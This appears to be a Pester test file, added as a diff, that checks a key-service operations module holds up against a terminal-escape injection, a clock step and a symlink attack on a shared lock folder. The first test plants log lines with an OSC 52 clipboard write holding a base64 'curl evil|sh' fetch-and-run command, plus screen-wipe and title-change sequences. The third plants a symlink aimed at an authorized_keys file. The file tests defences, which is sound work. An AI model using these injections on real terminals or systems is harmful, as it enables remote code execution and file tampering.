@@ -1,0 +1,110 @@
+#requires -Modules @{ ModuleName = 'Pester'; ModuleVersion = '5.0.0' }
+# A hostile world, as it happens (issues #25, #26): a terminal that is a real pty, a second "machine" (its own HOME),
+# a clock step (Debian's faketime), a second user on the machine (setpriv). Each operator is a real pwsh process.
+BeforeAll {
+    . (Join-Path $PSScriptRoot 'LabHelpers.ps1')
+    $script:lab = Start-KsoLab
+    $script:a = $lab.instances
+    $script:pwsh = (Get-Process -Id $PID).Path
+    $script:labFile = Join-Path $TestDrive 'lab.json'
+    $lab | Select-Object * -ExcludeProperty Process | ConvertTo-Json -Depth 4 | Set-Content $labFile
+    $script:module = (Get-Module KeyServiceOps).Path -replace 'KeyServiceOps.dll$', 'KeyServiceOps.psd1'
+    $script:helpers = Join-Path $PSScriptRoot 'LabHelpers.ps1'
+    # The command line that runs SCRIPT in a fresh operator pwsh (the .NET tool's pwsh runs under the dotnet host).
+    function script:Operator-CommandLine([string] $Command, [hashtable] $Env = @{}) {
+        $file = Join-Path $TestDrive ("op-{0}.ps1" -f [guid]::NewGuid().ToString('N'))
+        $exports = ($Env.GetEnumerator() | ForEach-Object { "`$env:$($_.Key) = '$($_.Value)'" }) -join "`n"
+        @"
+`$ProgressPreference = 'SilentlyContinue'
+`$PSStyle.OutputRendering = 'PlainText'
+$exports
+Import-Module '$module'
+. '$helpers'
+Set-KsoLabContext (Get-Content '$labFile' -Raw | ConvertFrom-Json)
+$Command
+"@ | Set-Content $file
+        $exe = @($pwsh)
+        if ([IO.Path]::GetFileNameWithoutExtension($pwsh) -eq 'dotnet') { $exe += (Join-Path $PSHOME 'pwsh.dll') }
+        return @($exe + @('-NoProfile', '-NonInteractive', '-File', $file))
+    }
+}
+AfterAll { Stop-KsoLab $script:lab }
+
+Describe 'A container''s log drives nobody''s terminal (a real pty)' {
+    It 'OSC 52, screen and scrollback wipes and a window title arrive as visible text, never as control sequences' {
+        $addr = $a[0]
+        $esc = [char]27; $bel = [char]7
+        Add-KsoLabLogLine $lab $addr "level=error msg=""$esc]52;c;$([Convert]::ToBase64String([Text.Encoding]::UTF8.GetBytes('curl evil|sh')))$bel cipher unavailable""" -Stderr
+        Add-KsoLabLogLine $lab $addr "panic: $esc[2J$esc[3J$esc]0;owned$bel boom" -Stderr
+        $cmd = "Get-KeyServiceLog $addr -Tail 10 | Format-Table -Wrap; Get-KeyServiceLog $addr -Tail 10 | Get-KeyServiceFault | Format-List; Get-KeyServiceLog $addr -Tail 10 | ForEach-Object { Write-Warning `$_.Message }"
+        $argv = Operator-CommandLine $cmd
+        $typescript = Join-Path $TestDrive 'pty.typescript'
+        # util-linux script(1): the operator's pwsh runs on a real pseudo-terminal; every byte it sends is recorded.
+        & script -q -e -c ($argv -join ' ') $typescript | Out-Null
+        $LASTEXITCODE | Should -Be 0
+        $bytes = [IO.File]::ReadAllText($typescript, [Text.Encoding]::Latin1)
+        $bytes | Should -Match 'cipher unavailable'                       # the lines were shown
+        $bytes | Should -Match ([regex]::Escape('\x1b]52;'))              # visibly escaped
+        $bytes.Contains("$esc]52;") | Should -BeFalse                     # no clipboard write
+        $bytes.Contains("$esc[2J") | Should -BeFalse                      # no screen wipe
+        $bytes.Contains("$esc[3J") | Should -BeFalse                      # no scrollback wipe
+        $bytes.Contains("$esc]0;owned") | Should -BeFalse                 # no window title
+        # In the session: Message is escaped, the exact text is there on request.
+        $hostile = Get-KeyServiceLog $addr -Tail 10 | Where-Object { $_.GetRawMessage().Contains("$esc]52;") }
+        $hostile.Message | Should -Match ([regex]::Escape('\x1b]52;'))
+        $hostile.Message.Contains([string]$esc) | Should -BeFalse
+    }
+}
+
+Describe 'A clock step between two self-healing passes (faketime)' {
+    It 'times written by a clock two hours ahead are taken as now, with a warning, and never hold a restart back for hours' {
+        $addr = $a[1]
+        $state = Join-Path $TestDrive 'clock-state.json'
+        Set-KsoLabMode $lab $addr Down
+        # A pass on a host whose clock is two hours ahead removes the instance and restarts it (restart time, grace).
+        $argv = Operator-CommandLine "1..3 | ForEach-Object { Invoke-KeyServiceSelfHealing -StatePath '$state' -FailuresToRemove 1 -Restart -Confirm:`$false | Out-Null }"
+        # The whole process runs two hours ahead, monotonic clock included (faketime's FAKETIME_DONT_FAKE_MONOTONIC
+        # breaks .NET's timed waits: a 2 s WaitOne returned after 38 ms, and every SSH handshake timed out).
+        & faketime -f '+2h' @argv | Out-Null
+        $LASTEXITCODE | Should -Be 0
+        $written = Get-Content $state -Raw | ConvertFrom-Json
+        ([DateTimeOffset]$written.Targets."$($addr):8888".GraceUntil) | Should -BeGreaterThan ([DateTimeOffset]::UtcNow.AddMinutes(90))
+        # The next pass, on the right clock: the future times are repaired (not a two-hour hold), and it says so.
+        $null = Invoke-KeyServiceSelfHealing -StatePath $state -Restart -Confirm:$false -WarningVariable w -WarningAction SilentlyContinue
+        ($w -join "`n") | Should -Match 'further ahead than its own span|in the future'
+        $after = Get-Content $state -Raw | ConvertFrom-Json
+        $grace = $after.Targets."$($addr):8888".GraceUntil                # expired: cleared, or at most one span ahead
+        if ($null -ne $grace) { ([DateTimeOffset]$grace) | Should -BeLessThan ([DateTimeOffset]::UtcNow.AddMinutes(10)) }
+        foreach ($r in @($after.Targets."$($addr):8888".Restarts)) { ([DateTimeOffset]$r) | Should -BeLessThan ([DateTimeOffset]::UtcNow.AddMinutes(2)) }
+        Set-KsoLabMode $lab $addr Up
+    }
+}
+
+Describe 'A second user of a shared lock folder (setpriv)' {
+    It 'a planted holder symlink never redirects our write: the victim file is untouched' {
+        $addr = $a[2]
+        if (-not (& id -u ksolab 2>$null)) { & useradd -M -s /bin/sh ksolab 2>$null | Out-Null }
+        $shared = Join-Path ([IO.Path]::GetTempPath()) ("kso-shared-locks-{0}" -f [guid]::NewGuid().ToString('N').Substring(0, 8))
+        New-Item -ItemType Directory $shared | Out-Null
+        & chmod 0777 $shared                                              # group/world-writable, no sticky bit
+        $victim = Join-Path $TestDrive 'authorized_keys'
+        Set-Content $victim 'ssh-ed25519 AAAA... the victim''s key'
+        & chmod 0644 $victim
+        try {
+            # The other user plants <ip>.holder -> the victim's file, as themselves.
+            & setpriv --reuid=ksolab --regid=ksolab --clear-groups ln -s $victim (Join-Path $shared "$addr.holder")
+            $LASTEXITCODE | Should -Be 0
+            (Get-Item (Join-Path $shared "$addr.holder")).LinkTarget | Should -Be $victim
+            $env:KEYSERVICEOPS_LOCK_DIR = $shared
+            $argv = Operator-CommandLine "Remove-RingBalancerTarget $($addr):8888 -Force -Confirm:`$false; Add-RingBalancerTarget $($addr):8888 -Force -Confirm:`$false" @{ KEYSERVICEOPS_LOCK_DIR = $shared }
+            & $argv[0] $argv[1..($argv.Count - 1)] | Out-Null
+            Get-Content $victim -Raw | Should -Match 'the victim''s key'
+            Get-Content $victim -Raw | Should -Not -Match 'process'
+        }
+        finally {
+            Remove-Item Env:KEYSERVICEOPS_LOCK_DIR -ErrorAction SilentlyContinue
+            Remove-Item $shared -Recurse -Force -ErrorAction SilentlyContinue
+        }
+        (Get-RingBalancerTarget).Target | Should -Contain "$($addr):8888"
+    }
+}
